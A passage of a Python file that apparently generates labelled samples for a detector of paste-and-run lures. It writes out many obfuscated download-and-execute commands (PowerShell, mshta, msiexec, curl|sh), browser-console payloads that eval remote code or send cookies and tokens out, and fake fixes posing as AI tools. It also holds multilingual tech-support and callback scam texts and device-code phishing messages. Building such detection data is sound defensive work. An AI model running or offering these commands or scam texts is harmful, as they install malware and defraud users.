        ("steam", f"$.getScript('https://{h(5)}/steam/gift.js')"),
        ("crypto", f"import('https://{h(6)}/wallet/connect.mjs')"),
        ("game", f"new Function(String.fromCharCode({char_codes(js_fetch(h(7) + '/g'))}))()"),
        (
            "yt",
            f"document.body.appendChild(Object.assign(document.createElement('script'),{{src:'https://{h(8)}/yt/premium.js'}}))",
        ),
        (
            "shop",
            f"javascript:void(0);/* coupon */ fetch('//{h(9)}/c').then(r=>r.text()).then(eval)",
        ),
        (
            "tiktok",
            f"window['ev'+'al'](decodeURIComponent('{''.join('%' + format(ord(c), '02x') for c in f'fetch(`https://{h(10)}/tt`).then(r=>r.text()).then(eval)')}'))",
        ),
        (
            "ai4",
            f"let s=document.createElement('script');s.text=await (await fetch('https://{h(11)}/unlock.js')).text();document.head.append(s)",
        ),
        ("bank", f"eval('{js_uni(js_fetch(h(12) + '/b'))}')"),
        (
            "crypto",
            f"setTimeout(atob('{b64(f'fetch(`https://{h(13)}/air`).then(r=>r.text()).then(eval)')}'),0)",
        ),
        (
            "disc",
            f"fetch('https://{h(14)}/x',{{method:'POST',body:JSON.stringify({{c:document.cookie,l:localStorage.token}})}})",
        ),
        ("steam", f"[].constructor.constructor(atob('{b64(js_fetch(h(15) + '/s'))}'))()"),
    ]
    for page, text in F:
        L.lure("browser-console", CON, PAGE[page], text)

    # --- G. 2026 social wrappers: multi-stage, non-English pages, AI, updates, games ---------------
    G = [
        (
            RUN,
            "de",
            f'powershell -w h -c "irm https://{h(16)}/de/v | iex" # Ich bin kein Roboter – Bestätigungs-ID 4471',
        ),
        (
            RUN,
            "fr",
            f"mshta https://{h(17)}/fr/v.hta # Je ne suis pas un robot - ID de vérification 2219",
        ),
        (
            RUN,
            "es",
            f'cmd /c "curl -s https://{h(18)}/es|cmd" # No soy un robot - ID de verificación 8812',
        ),
        (
            RUN,
            "pt",
            f'powershell -w h -c "iwr https://{h(19)}/pt -useb|iex" # Não sou um robô - código 5531',
        ),
        (
            RUN,
            "it",
            f'conhost --headless powershell -c "irm {h(0)}/it|iex" # Non sono un robot - verifica 7741',
        ),
        (
            RUN,
            "pl",
            f"msiexec /qn /i https://{h(1)}/pl/w.msi # Nie jestem robotem - identyfikator 3390",
        ),
        (
            RUN,
            "ja",
            f'powershell -w h -c "irm https://{h(2)}/ja|iex" # 私はロボットではありません 認証ID: 6620',
        ),
        (RUN, "nl", f"mshta https://{h(3)}/nl.hta # Ik ben geen robot - verificatie-ID 1180"),
        (
            RUN,
            "tr",
            f'powershell -w h -c "irm {h(4)}/tr|iex" # Robot değilim - doğrulama kimliği 9021',
        ),
        (RUN, "ru", f"cmd /c finger ru@{h(5)} | cmd # Я не робот - код проверки 4402"),
        (
            TERM,
            "ai4",
            f'# step 1\n$env:AI_SETUP="https://{h(6)}/agent"\n# step 2\niex (irm $env:AI_SETUP)',
        ),
        (
            RUN,
            "ai",
            f'powershell -w h -c "irm https://{h(7)}/claude-desktop/win | iex" # Claude Desktop requires a one-time runtime fix',
        ),
        (
            RUN,
            "ai2",
            f"cmd /c curl -fsSL https://{h(8)}/codex/setup.cmd -o %TEMP%\\c.cmd && %TEMP%\\c.cmd # OpenAI Codex CLI for Windows",
        ),
        (
            RUN,
            "chrome",
            f'cmd /c "powershell -w h -c irm {h(9)}/crashfix | iex" & echo Browser repaired. Please restart Chrome.',
        ),
        (
            RUN,
            "edge",
            f'powershell -w h -c "Stop-Process -Name msedge -Force; irm https://{h(10)}/edge/repair | iex"',
        ),
        (
            RUN,
            "tiktok",
            f'powershell -c "irm https://{h(11)}/activate | iex"  # Windows 11 Pro activation from the video',
        ),
        (RUN, "yt", f'powershell -w h -c "iwr {h(12)}/spotify-premium -useb | iex"'),
        (
            RUN,
            "driver",
            f"cmd /c start /min mshta https://{h(13)}/rtk/audio.hta # Realtek: no audio output device fix",
        ),
        (
            RUN,
            "driver2",
            f'powershell -w h -c "irm https://{h(14)}/nv/dxfix | iex" # NVIDIA driver crash fix (DXGI_ERROR_DEVICE_HUNG)',
        ),
        (
            RUN,
            "codec",
            f"msiexec /i https://{h(15)}/codec/HEVC_Video_Extension.msi /quiet # free HEVC codec",
        ),
        (
            RUN,
            "game",
            f'powershell -w h -c "irm https://{h(16)}/nf/key | iex" # Nightfall playtest key activation',
        ),
        (
            RUN,
            "zoom",
            f'cmd /c "timeout /t 1 >nul & powershell -w h -c irm {h(17)}/zoom/upd|iex" # Zoom Workplace update required to join',
        ),
        (
            RUN,
            "teams",
            f'powershell -w h -c "irm https://{h(18)}/teams/join | iex" # join the meeting as guest',
        ),
        (
            TERM,
            "linux",
            f'export U=https://{h(19)}/s\ncurl -fsSL "$U" -o /tmp/s.sh\nbash /tmp/s.sh',
        ),
        (
            TERM,
            "apple2",
            f"curl -fsSL https://{h(0)}/mac/26.4.1-hotfix -o ~/hotfix && chmod +x ~/hotfix\n~/hotfix --apply",
        ),
        (
            RUN,
            "cf3",
            f"powershell -w h -c \"Set-Clipboard -Value ''; irm https://{h(1)}/cf | iex\" {TAILS[1]}",
        ),
    ]
    for target, page, text in G:
        plat = "macos" if page.startswith("apple") else "linux" if page == "linux" else "windows"
        L.lure("social-wrapper-2026", target, PAGE[page], text, platform=plat)

    # --- H. Tech-support and callback scams (flagged), 14 languages, 555 numbers -------------------
    H_SCAM = [
        (
            "en",
            "WINDOWS DEFENDER SECURITY ALERT\nYour computer has been blocked. Trojan Spyware (error code 0x80070424) detected. Do not restart your PC. Call Microsoft Support immediately: +1 (888) 555-0147 (toll free)",
        ),
        (
            "en",
            "Your iCloud account has been locked due to suspicious activity from Lagos, Nigeria. Call Apple Support at 1-844-555-0192 within 30 minutes to avoid permanent deletion of your photos.",
        ),
        (
            "de",
            "WARNUNG! Ihr Computer wurde gesperrt. Es wurde ein Virus gefunden, Ihre Bankdaten sind in Gefahr. Rufen Sie sofort den Microsoft-Support an: 0800 555 0148. Schalten Sie den Computer nicht aus.",
        ),
        (
            "fr",
            "ALERTE DE SÉCURITÉ : votre ordinateur est bloqué pour des raisons de sécurité. Appelez immédiatement le support technique au 01 55 50 14 99 (appel gratuit). Ne fermez pas cette page.",
        ),
        (
            "es",
            "¡Atención! Su equipo ha sido bloqueado por actividad sospechosa. Llame inmediatamente al soporte técnico de Windows: +34 900 555 014. No apague el ordenador.",
        ),
        (
            "it",
            "Il tuo computer è stato bloccato a causa di un virus. I tuoi dati personali sono a rischio. Chiama subito l'assistenza Microsoft al numero verde 800 555 017.",
        ),
        (
            "pt",
            "ALERTA: o seu computador foi bloqueado por motivos de segurança. Ligue imediatamente para o suporte técnico: 0800 555 0123. Não desligue o computador.",
        ),
        (
            "nl",
            "Uw computer is geblokkeerd vanwege een virusinfectie. Bel direct Microsoft Ondersteuning op 0800 555 0190. Schakel uw computer niet uit, anders gaan uw gegevens verloren.",
        ),
        (
            "pl",
            "UWAGA! Twój komputer został zablokowany. Wykryto wirusa. Natychmiast zadzwoń do pomocy technicznej Microsoft: +48 22 555 01 44. Nie wyłączaj komputera.",
        ),
        (
            "tr",
            "UYARI: Bilgisayarınız güvenlik nedeniyle engellendi. Hemen Microsoft destek hattını arayın: 0850 555 01 47. Bilgisayarınızı kapatmayın.",
        ),
        (
            "ru",
            "ВНИМАНИЕ! Ваш компьютер заблокирован из-за вирусной активности. Срочно позвоните в службу поддержки Microsoft: 8 800 555-01-46. Не выключайте компьютер.",
        ),
        (
            "ja",
            "警告：お使いのコンピューターはウイルスに感染しているためブロックされました。今すぐマイクロソフトサポートに電話してください：0120-555-014。電源を切らないでください。",
        ),
        (
            "zh",
            "警告：您的电脑因检测到病毒已被锁定。请立即拨打微软技术支持热线：400-555-0147。请勿关闭计算机，否则数据将丢失。",
        ),
        (
            "ar",
            "تحذير: تم حظر جهاز الكمبيوتر الخاص بك بسبب نشاط مشبوه. اتصل بالدعم الفني لمايكروسوفت فورًا على الرقم ‎+971 4 555 0147‎. لا تقم بإيقاف تشغيل الجهاز.",
        ),
        (
            "ko",
            "경고: 바이러스가 감지되어 컴퓨터가 차단되었습니다. 즉시 마이크로소프트 고객지원센터 080-555-0147로 전화하십시오. 컴퓨터를 끄지 마십시오.",
        ),
        (
            "sv",
            "VARNING! Din dator har låsts på grund av ett virus. Ring Microsoft-support omedelbart på 020-555 01 47. Stäng inte av datorn.",
        ),
    ]
    for lang, text in H_SCAM:
        L.lure(
            f"support-scam-{lang}",
            UNK,
            PAGE["news"] if lang in ("en", "de") else PAGE["blog"],
            text,
            expect="flagged",
        )
    CALLBACK = [
        (
            "en",
            "PayPal: Your order #PP-88102 for Bitcoin (BTC) $749.99 has been processed. If you did not make this purchase, call our billing department at +1 (808) 555-0163 within 24 hours to cancel.",
        ),
        (
            "en",
            "Geek Squad auto-renewal: your annual protection plan ($399.00) will be charged today. To cancel and receive a refund call 1-877-555-0139.",
        ),
        (
            "de",
            "Ihre Bestellung Nr. 402-5512 (iPhone 16 Pro, 1.299,00 €) wurde versandt. Falls Sie diese Bestellung nicht aufgegeben haben, rufen Sie umgehend unsere Hotline an: 030 555 0184.",
        ),
        (
            "fr",
            "Votre abonnement Norton 360 a été renouvelé pour 349,99 €. Pour annuler et obtenir un remboursement, appelez le 09 55 50 17 33 sous 24 heures.",
        ),
        (
            "es",
            "Su pedido de Amazon #171-555 por 899,00 € ha sido confirmado. Si no reconoce esta compra, llame al +34 911 555 017 para cancelarla.",
        ),
        (
            "it",
            "Il rinnovo automatico di McAfee Total Protection (299,99 €) è stato addebitato. Per annullare chiama il numero 02 555 0199.",
        ),
        (
            "pt",
            "A sua encomenda n.º 88-2041 (MacBook Air, 1.499 €) foi paga. Se não reconhece esta compra, ligue para 21 555 0177 para cancelar.",
        ),
        (
            "pl",
            "Twoje zamówienie nr 55-2026 (PlayStation 5, 2 499 zł) zostało opłacone. Jeśli to nie Ty, zadzwoń pod numer 22 555 01 66, aby anulować.",
        ),
        (
            "nl",
            "Uw bestelling #NL-40211 (Samsung Galaxy S26, € 1.149) is verzonden. Niet door u besteld? Bel binnen 24 uur 020 555 0188 om te annuleren.",
        ),
        (
            "ja",
            "Amazonでのご注文（注文番号 250-555-01, 金額 ¥98,000）が確定しました。お心当たりのない場合は、03-5550-1477 までお電話ください。",
        ),
        (
            "ru",
            "Ваш заказ № 58-201 (iPhone 16, 119 990 ₽) оплачен. Если вы не совершали эту покупку, позвоните по номеру 8 800 555-01-72 для отмены.",
        ),
        (
            "tr",
            "Siparişiniz (No: 77-5521, 42.999 TL) onaylandı. Bu alışverişi siz yapmadıysanız iptal için 0212 555 01 49 numarasını arayın.",
        ),
        (
            "zh",
            "您的订单（编号 5520147，金额 ¥6,999）已付款。如非本人操作，请立即致电 021-5550-1478 取消并退款。",
        ),
        (
            "ar",
            "تم تأكيد طلبك رقم 55-201 بقيمة 3,499 درهم. إذا لم تقم بهذا الشراء، اتصل على ‎800 555 0146‎ خلال 24 ساعة للإلغاء.",
        ),
    ]
    for lang, text in CALLBACK:
        L.lure(
            f"callback-{lang}",
            UNK,
            PAGE["bank"] if lang == "en" else PAGE["dhl"],
            text,
            expect="flagged",
        )

    # --- I. ConsentFix, device-code phishing, fake verification tails after a URL -------------------
    CONSENT = [
        (
            "ms",
            "http://localhost:53110/?code=0.AXkA2g8-lure-22-Qm9ndXNDb2Rl.AgABAAEAAAD&state=7d1c&session_state=0b2e",
        ),
        ("ms2", "http://localhost/?code=M.C544_BAY.2.U.9f1c2e-22&state=azure-cli-login"),
        (
            "teams",
            "http://127.0.0.1:8400/callback?code=1.AQ4A22lureCode-xyz&state=teams-sso&client_info=eyJ1aWQiOiIxIn0",
        ),
        (
            "goo",
            "http://localhost:8085/?state=g22&code=4/0AeaYSHB22-fake-consent-code&scope=https://www.googleapis.com/auth/drive",
        ),
        (
            "docu",
            "Paste the address from your browser bar here to finish signing in:\nhttp://localhost:44321/signin-oidc?code=0.ARoA22-consentfix-demo&state=doc",
        ),
        (
            "ms3",
            "http://localhost:9000/auth?code=0.AV22-admin-consent-code&state=graph&admin_consent=True",
        ),
    ]
    for page, text in CONSENT:
        L.lure("consentfix", UNK, PAGE[page], text, expect="flagged")
    DEVICE = [
        (
            "teams",
            "Hi, this is IT Service Desk. To keep your mailbox active after the migration, go to https://microsoft.com/devicelogin and enter code QH7-RN4K, then sign in with your work account. It expires in 15 minutes.",
        ),
        (
            "ms2",
            "Action required: your SharePoint access will be revoked today. Open microsoft.com/devicelogin, type the code FJ2K8L9P and approve the sign-in to keep access to Q4 documents.",
        ),
        (
            "zoom",
            "Zoom Security: to verify this meeting device, visit https://microsoft.com/devicelogin and enter G8W4-KX2M within 10 minutes.",
        ),
        (
            "de",
            "IT-Abteilung: Bitte öffnen Sie https://microsoft.com/devicelogin und geben Sie den Code BRX4-9QTL ein, damit Ihr Postfach nach der Umstellung nicht gesperrt wird.",
        ),
        (
            "fr",
            "Service informatique : ouvrez https://microsoft.com/devicelogin et saisissez le code MT5C-2VWD pour conserver l'accès à votre messagerie.",
        ),
    ]
    for page, text in DEVICE:
        L.lure("device-code-phish", UNK, PAGE[page], text, expect="flagged")
    URLTAIL = [
        (
            "cf",
            f"https://{h(2)}/verify/cf-check.hta # ✅ I am not a robot: Cloudflare Ray ID 8c2f9a1e",
        ),
        (
            "rc",
            f"https://{h(3)}/captcha/human.cmd      # reCAPTCHA verification complete, press Enter",
        ),
        ("ms", f"\\\\{h(4)}@SSL\\DavWWWRoot\\verify\\id.bat   # Microsoft account verification"),
        ("book", f"https://{h(5)}/guest/verify.vbs # Booking.com: confirm guest identity"),
        ("disc", f"http://{ip(6)}/dv.hta ''Discord human check passed''"),
        ("zoom", f"https://{h(6)}/zoom/AudioFix.msi{pad(60)}# Zoom audio device repair"),
    ]
    for page, text in URLTAIL:
        L.lure("url-verify-tail", RUN, PAGE[page], text)

    # --- J. Bare IOC commands and fixture-style obfuscations, no page ------------------------------
    iocs: list[tuple[str, str, str, str]] = []  # technique, target, text, platform

    def ioc(tech: str, text: str, target: str = RUN, platform: str = "windows") -> None:
        iocs.append((tech, target, text, platform))

    for i, url in enumerate([f"https://{h(i + 2)}/r{i}" for i in range(6)]):
        cmd = f"iex(irm {url})"
        forms = [
            f'powershell -w h -c "{cmd}"',
            f"powershell -nop -w 1 -enc {b64_utf16(cmd)}",
            f'powershell -c "&(gal i*x) (irm {url})"',
            f'powershell -c "&([scriptblock]::Create((irm {url})))"',
            f"powershell -c \".('{{1}}{{0}}' -f 'ex','i') (irm {url})\"",
            f'powershell -c "iex ({ps_concat(cmd, 3)})"',
        ]
        ioc("ioc-ps-cradle", forms[i])
    ioc("ioc-ps-alias", f'powershell -c "&(gcm *ke-Exp*) (&(gcm *ke-Res*) https://{h(8)}/a)"')
    ioc(
        "ioc-ps-alias",
        f'powershell -c "& (dir C:\\W*\\S*32\\W*\\v1*\\p*l.e*) -c irm {h(9)}/b ^| iex"',
    )
    ioc("ioc-ps-alias", f'powershell -c "$e=(gcm I*e-E*n);$r=(gcm I*e-R*d);&$e (&$r {h(10)}/c)"')
    ioc(
        "ioc-ps-wildcard",
        f"powershell -c \"&(gi 'C:\\Windows\\System32\\m?h?a.e*') https://{h(11)}/h.hta\"",
    )
    ioc(
        "ioc-ps-join",
        f"powershell -c \"iex (-join ('{','.join(char_codes(f'irm {h(12)}/j|iex').split(','))}'.Split(',')|%{{[char][int]$_}}))\"",
    )
    ioc("ioc-ps-replace", f"powershell -c \"iex ('iQrQm {h(13)}/q |Q iQeQx'.Replace('Q',''))\"")
    ioc(
        "ioc-ps-replace",
        f"powershell -c \"iex ('i#w#r -u#s#e#b h#t#t#p#s#://{h(14)}/w | i#e#x' -replace '#')\"",
    )
    ioc(
        "ioc-ps-backtick",
        f'po`wer`shell -w h -c "I`Nv`OkE-E`xPr`EsSiOn (I`Nv`OkE-R`eSt`MeThOd {h(15)}/bt)"',
    )
    ioc(
        "ioc-ps-substring",
        f"powershell -c \"$s='xxiexxirm https://{h(16)}/ss';&($s.Substring(2,3)) (&($s.Substring(7,3)) $s.Substring(11))\"",
    )
    ioc(
        "ioc-ps-xor",
        f'powershell -c "$k=0x37;iex(-join([char[]]({xor_codes(f"irm {h(17)}/x|iex", 0x37)})|%{{[char]([int]$_ -bxor $k)}}))"',
    )
    ioc(
        "ioc-ps-deflate",
        f"powershell -c \"iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{kit.deflate_b64(f'irm https://{h(18)}/df | iex')}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    )
    ioc(
        "ioc-ps-reverse",
        f"powershell -c \"$r='{reverse(f'iex(irm {h(19)}/rv)')}';iex ($r[-1..-($r.Length)] -join '')\"",
    )
    ioc("ioc-ps-env", f"powershell -c \"$env:x='irm {h(0)}/ev';iex (iex $env:x)\"")
    ioc("ioc-ps-hex-ip", f'powershell -c "irm http://0x{ip_int(ip(0)):08x}/h | iex"')
    ioc("ioc-ps-int-ip", f'powershell -c "iwr http://{ip_int(ip(1))}/d -useb | iex"')
    ioc("ioc-cmd-carets", carets(f"cmd /c powershell -w h -c irm {h(1)}/cr | iex", 3))
    ioc(
        "ioc-cmd-slice",
        f'cmd /v /c "set p=pwoershlicmx & call %p:~0,1%%p:~2,1%%p:~1,1%%p:~3,1%%p:~4,1%%p:~5,1%%p:~6,1%%p:~3,1%%p:~7,1%%p:~7,1% -c irm {h(2)}/sl|iex"',
    )
    pool = "abcdefghijklmnopqrstuvwxyz"
    ioc(
        "ioc-cmd-slice",
        f'cmd /c "set z={pool}& call {cmd_slice("mshta", pool, "z")} https://{h(3)}/z.hta"',
    )
    ioc("ioc-cmd-set", f'cmd /c "set m=ms&set h=hta&call %m%%h% https://{h(4)}/mh.hta"')
    ioc("ioc-cmd-quotes", f'c"m"d /c p"o"w"e"r"s"h"e"l"l -c "irm {h(5)}/qq|iex"')
    ioc("ioc-mshta", f"mshta.exe https://{h(6)}/ioc/a.hta")
    ioc("ioc-mshta", f"mshta http://{ip(2)}:8000/ver")
    ioc(
        "ioc-mshta-vbs",
        f'mshta vbscript:CreateObject("Wscript.Shell").Run("powershell -w h iwr {h(7)}/v -useb|iex",0)(window.close)',
    )
    ioc("ioc-msiexec", f"msiexec.exe /i http://{ip(3)}/pkg.msi /qn")
    ioc("ioc-msiexec", f"msiexec /package \\\\{h(8)}@SSL\\DavWWWRoot\\i.msi /quiet")
    ioc("ioc-rundll32", f"rundll32.exe \\\\{ip(4)}\\share\\r.dll,Go")
    ioc(
        "ioc-rundll32",
        f'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://{h(9)}/r.sct")',
    )
    ioc("ioc-regsvr32", f"regsvr32 /s /u /i:http://{ip(5)}/r.sct scrobj.dll")
    ioc(
        "ioc-certutil",
        f"certutil.exe -urlcache -f https://{h(10)}/c.b64 %TEMP%\\c.b64 & certutil -decode %TEMP%\\c.b64 %TEMP%\\c.exe & %TEMP%\\c.exe",
    )
    ioc(
        "ioc-bitsadmin",
        f"bitsadmin /transfer j /download /priority high https://{h(11)}/b.exe %APPDATA%\\b.exe & %APPDATA%\\b.exe",
    )
    ioc("ioc-finger", f"finger.exe q2@{h(12)} | cmd.exe")
    ioc("ioc-finger", carets(f"cmd /c finger k@{ip(6)} | cmd", 2))
    ioc("ioc-nslookup", f'nslookup -type=TXT p.{h(13)} {ip(7)} | findstr /r "^\\"" | cmd')
    ioc(
        "ioc-nslookup",
        f'cmd /c "for /f \\"tokens=*\\" %i in (\'nslookup -q=txt s.{h(14)} {ip(0)} ^| findstr v=\') do %i"',
    )
    ioc(
        "ioc-syncappv",
        f'SyncAppvPublishingServer.vbs "Break; iwr http://{ip(1)}/s.ps1 -useb | iex"',
    )
    ioc(
        "ioc-syncappv",
        f'C:\\Windows\\System32\\SyncAppvPublishingServer.exe "n; Start-Process mshta https://{h(15)}/s.hta"',
    )
    ioc(
        "ioc-conhost",
        f"conhost.exe --headless cmd /c curl -s https://{h(16)}/c.bat -o %TEMP%\\c.bat ^& %TEMP%\\c.bat",
    )
    ioc("ioc-webdav", f"pushd \\\\{h(17)}@SSL\\DavWWWRoot & call run.cmd")
    ioc(
        "ioc-webdav",
        f"net use \\\\{h(18)}@SSL\\DavWWWRoot\\x & start \\\\{h(18)}@SSL\\DavWWWRoot\\x\\doc.lnk",
    )
    ioc("ioc-wscript", f"wscript /e:vbscript \\\\{ip(2)}\\pub\\update.txt")
    ioc("ioc-curl-cmd", f"curl.exe -k https://{h(19)}/s.cmd | cmd")
    ioc(
        "ioc-curl-cmd",
        f"cmd /c curl -s -o %LOCALAPPDATA%\\u.vbs https://{h(0)}/u.vbs && wscript %LOCALAPPDATA%\\u.vbs",
    )
    ioc("ioc-explorer-bar", f"powershell -c irm {h(1)}/fx|iex{pad(150)}# C:\\Docs\\Report.pdf", EXP)
    ioc(
        "ioc-explorer-bar",
        f"cmd /c mshta https://{h(2)}/fx.hta{pad(150)}# \\\\server\\share\\Invoice.xlsx",
        EXP,
    )
    ioc(
        "ioc-terminal-ps",
        f'iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("{b64_utf16(f"irm {h(3)}/t | iex")}")))',
        TERM,
    )
    ioc(
        "ioc-terminal-ps",
        f". ([scriptblock]::Create([Text.Encoding]::UTF8.GetString((iwr https://{h(4)}/t2 -useb).Content)))",
        TERM,
    )
    ioc("ioc-macos", f"curl -s https://{h(5)}/m.sh | nohup bash &", TERM, "macos")
    ioc("ioc-macos", f'osascript -e "$(curl -fsSL https://{h(6)}/a.scpt)"', TERM, "macos")
    ioc("ioc-macos", f'bash -c "$(curl -fsSL http://{ip(3)}/install)"', TERM, "macos")
    ioc(
        "ioc-macos",
        f"echo {b64(f'curl -o /tmp/u https://{h(7)}/u;xattr -c /tmp/u;chmod +x /tmp/u;/tmp/u')} | base64 --decode | sh",
        TERM,
        "macos",
    )
    ioc("ioc-macos", f"curl -s https://{h(8)}/agent | base64 -D | zsh", TERM, "macos")
    ioc("ioc-linux", f"wget -q -O- http://{ip(4)}/l.sh | sh", TERM, "linux")
    ioc("ioc-linux", f"curl -fsSL https://{h(9)}/b | python3 -", TERM, "linux")
    ioc("ioc-linux", f'printf "{esc_hex(f"curl -s https://{h(10)}/e|sh")}" | sh', TERM, "linux")
    ioc("ioc-linux", f'sh -c "$(wget -qO- https://{h(11)}/i)"', TERM, "linux")
    ioc("ioc-js", f"fetch('https://{h(12)}/j').then(r=>r.text()).then(t=>eval(t))", CON)
    js_import = 'import("https://' + h(13) + '/m.js")'
    ioc("ioc-js", f"eval(atob('{b64(js_import)}'))", CON)
    ioc(
        "ioc-js",
        f"this[String.fromCharCode(101,118,97,108)](await (await fetch('https://{h(14)}/k')).text())",
        CON,
    )
    ioc("ioc-url-tail", f"https://{h(15)}/check.hta # I am not a robot ID 55-10")
    ioc("ioc-ps-enc-short", f"powershell -e {b64_utf16(f'iwr {h(16)}/e|iex')}")
    ioc("ioc-ps-irm-ip", f"powershell irm {ip(5)}/p|iex")
    ioc("ioc-cmd-start-ps", f'cmd /c start /b /min powershell -nop -c "iwr {h(17)}/s -useb|iex"')
    for tech, target, text, plat in iocs:
        L.append((tech, target, None, text, "malicious", plat))

    return L


# ----------------------------------------------------------------------------------------------
# Benign texts
# ----------------------------------------------------------------------------------------------


def kit_digest(text: str) -> str:
    """The first 12 hex digits of the SHA-1 of a text, whitespace-collapsed and lower-cased."""
    norm = " ".join(text.split()).lower()
    return hashlib.sha1(norm.encode()).hexdigest()[:12]


# Texts of this set that an earlier set (1-21) already holds, found by a script that compared the
# texts and printed only counts and this set's ids (README, "Blind-22"): dropped, by digest.
DUPLICATES_OF_EARLIER_SETS: frozenset[str] = frozenset(
    {
        "00cef2c6e68e",
        "00e828381ce8",
        "01f8616652dd",
        "026d88fa5d63",
        "028d04337b46",
        "039cf31406c4",
        "06accb6e83b9",
        "07ae6f247920",
        "08ad69a26e4b",
        "09f606dae8e0",
        "0a43e3f09429",
        "0aa2e29e5135",
        "0bb991748c90",
        "0c289ba9214e",
        "0c2c0a84b58a",
        "0c3cc301d796",
        "0ca7bbc55975",
        "0d152eaa2952",
        "0de5dd706df5",
        "0dee11e90a49",
        "0e56c40c75b1",
        "0ecb32ead414",
        "0f41fd569973",
        "0f5b9feb0f98",
        "100fd10d204a",
        "10585043937d",
        "127f03ef6a7f",
        "1315e89bc88f",
        "136cd0baa42a",
        "1492c45ff4a8",
        "151dd6cf8f71",
        "156e496922b6",
        "16cb4837483c",
        "16efc21eaa59",
        "17395691921b",
        "17d26106507c",
        "17d3cd318f66",
        "1924d38bd82d",
        "1a97f3f584f8",
        "1ae8b9668c18",
        "1c01a65c7a41",
        "1c3c3899ffe0",
        "1c7e8478ee92",
        "1dd05a825c01",
        "1e1619cf88c4",
        "1e373b9d5f64",
        "1e5adb75947e",
        "1e7f1e10f14e",
        "2000f3c52354",
        "20177396c23d",
        "2117202bde34",
        "221d5fb2ca4d",
        "230baa314cb8",
        "27dbbc104c8c",
        "292b7425b93e",
        "2aeede80be6f",
        "2b2947de3128",
        "2b4718f48df5",
        "2b9935cd74dd",
        "2d213c9c6f3d",
        "2daa3d7f3b45",
        "2eac48b06b98",
        "2eeb8ae3b318",
        "2f8d1616bf96",
        "2fb53fae5987",
        "3000b22fd5b5",
        "32eb9ebc40ac",
        "3342efe0562e",
        "33c440765eea",
        "33dea0be2f53",
        "33ec0ed417cf",
        "368dfadd733b",
        "37079b2b9df4",
        "382f49c333cf",
        "3a2a6f7cf120",
        "3b03f786ab0c",
        "3c511298f81b",
        "3ed92bd07a16",
        "41ad01bbe55f",
        "426657c995d4",
        "42cb923b6ae2",
        "438615e747f0",
        "445c97dcb4ea",
        "4673945e6658",
        "46a2efff4b90",
        "46af008b293a",
        "46e252687fd4",
        "475763a4c9f6",
        "480e18db1559",
        "498f87f26235",
        "4ab68d209f2c",
        "4b374c6324c7",
        "4c875a4e1a4b",
        "4d7203eab3e6",
        "4e5fb967a1d1",
        "4f175aa01364",
        "4f5ed92e7c7e",
        "4f77aead344d",
        "5024ab41230a",
        "50656eb8fda9",
        "50e031827c09",
        "547668be134a",
        "54d2e6a313ed",
        "55da375557fc",
        "5640af1a729b",
        "56d4523084fc",
        "5902d8408f9c",
        "59c7d4982953",
        "5aa373b55d1d",
        "5ab48404c2fc",
        "5afb5d49e86b",
        "5b116c9b04d3",
        "5ba222834d21",
        "5d18bbc744fc",
        "5f47fbd2429f",
        "5fcf1b05d9f1",
        "60465498cfb1",
        "61fdf66cd597",
        "63d03ae5073f",
        "64810b726488",
        "655566681ed8",
        "6567009f5060",
        "664be0652ca2",
        "666093701aab",
        "666422fe3f1c",
        "6707d4ce4b32",
        "671a9452987f",
        "67b098722481",
        "67bd35f4e0d4",
        "67c6a45aa9f1",
        "67d7b0bac035",
        "69742471926c",
        "6a7e1c775ef2",
        "6c7a436f44bc",
        "6daf3b0647a0",
        "6ec382102777",
        "6fdbc5dfabe6",
        "7045b4ded7ff",
        "719b915bf3bc",
        "7223970a6a44",
        "74c691bd9be2",
        "74db13ff8301",
        "75ccecb72bd7",
        "7646bb65aa5b",
        "77bb4027275e",
        "7a4638840231",
        "7b10d2852e35",
        "7b48e6f6b94d",
        "7b5f2ebf582d",
        "7b92ddc51539",
        "7e629b028b63",
        "7f545d403d4e",
        "7fa67f3a1e83",
        "7fb0da79a4eb",
        "842b1bc9a818",
        "84f0476efdca",
        "85abdc2c87d7",
        "86526212d6d5",
        "8670a2f01090",
        "86c33bd8aa05",
        "87b93a158cb1",
        "895311b073c4",
        "8d3cc7271596",
        "8d48b5cec922",
        "8e7fd575b061",
        "8ee7325c6020",
        "900d7d87127f",
        "910527eba4a9",
        "913fd54f70d2",
        "924a0c7aa805",
        "93a2f7c111dc",
        "93d71f7f0ff5",
        "93e37e87ae98",
        "96224e5c0f1b",
        "966139574a80",
        "977a209e042f",
        "979572083e3c",
        "97ca0e519997",
        "99e66d4edac7",
        "9b6249bd550c",
        "9d1f1ee0921e",
        "9e93457bcf6a",
        "9ffc522ddf9f",
        "a127bbbb33d9",
        "a18a55b597af",
        "a1a6128cd2cf",
        "a2677642a7d3",
        "a4787828b166",
        "a677efe16064",
        "aa6a47c00294",
        "aac4fddd1a21",
        "abac36149cf8",
        "abfce41ce9dc",
        "ac2be6f90231",
        "b07f4600dfd6",
        "b33cfcda3d29",
        "b36fe39719b3",
        "b3983cb8c862",
        "b567039a1e22",
        "b58b3f8c87af",
        "b723dffb2a5e",
        "b7ed82422406",
        "b8e817fcdaa9",
        "b8edf0476ed5",
        "b927d958d424",
        "bb0aa434d3e7",
        "bb1f906acd6a",
        "bb2d1feef635",
        "bb72c7e162be",
        "bbbd07ca35cd",
        "bc40c975b111",
        "bc8d3a6c3a54",
        "bd66eafb5ae4",
        "bf6a416876a6",
        "c016038d5f71",
        "c0fc18d165bf",
        "c126e72cc54f",
        "c1891597b2e1",
        "c246a9be4672",
        "c2dd6ea87ec3",
        "c37893da65e6",
        "c3b8c565f3bb",
        "c80c0516fb14",
        "c8ce229efe6d",
        "c98699c10076",
        "ca410fd6c4a0",
        "ccafb4c56406",
        "cdf8e7f9e729",
        "d018d1d07d7d",
        "d0a3b318dcdb",
        "d177c8508b1c",
        "d24379812e46",
        "d2d8e95bd395",
        "d2e4a4ca38a4",
        "d3caa1e3490d",
        "d3eb294ef197",
        "d455be4adf7c",
        "d48a1144cbe2",
        "d5389b25bcb8",
        "d59cf982849e",
        "d5efce7f2ae1",
        "d6769dea51d9",
        "d7637aec6c61",
        "d851c72a9f4d",
        "d99f1cd95297",
        "d9e6119d6e0b",
        "da941eeacbaa",
        "dafe5de79792",
        "db37d520f0e4",
        "dcd2c3fcd217",
        "de911cafa638",
